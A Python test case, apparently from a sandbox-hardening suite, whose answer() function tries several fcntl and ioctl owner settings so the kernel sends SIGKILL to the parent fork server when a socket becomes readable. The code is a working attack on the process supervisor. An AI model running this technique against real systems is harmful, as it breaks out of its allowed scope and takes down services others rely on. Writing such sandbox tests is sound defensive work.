# does = "makes the kernel send SIGKILL to the fork server when its pipe or socket becomes readable"
# must_not = "server"
import fcntl
import os
import signal
import socket
import struct
import time

F_SETSIG, F_SETOWN_EX, FIOSETOWN, SIOCSPGRP = 10, 15, 0x8901, 0x8902


def answer(target):
    print("attacking", flush=True)
    server = os.getppid() or 2  # 0: it is outside our namespace, where its number is not secret
    for own in (
        lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, server),
        lambda fd: fcntl.fcntl(fd, F_SETOWN_EX, struct.pack("ii", 1, server)),
        lambda fd: fcntl.ioctl(fd, FIOSETOWN, struct.pack("i", server)),
        lambda fd: fcntl.ioctl(fd, SIOCSPGRP, struct.pack("i", server)),
    ):
        ours, theirs = socket.socketpair()
        try:
            own(ours.fileno())
            fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC)
            fcntl.fcntl(ours, F_SETSIG, signal.SIGKILL)
        except OSError:
            continue
        finally:
            theirs.send(b"now")
    time.sleep(0.5)
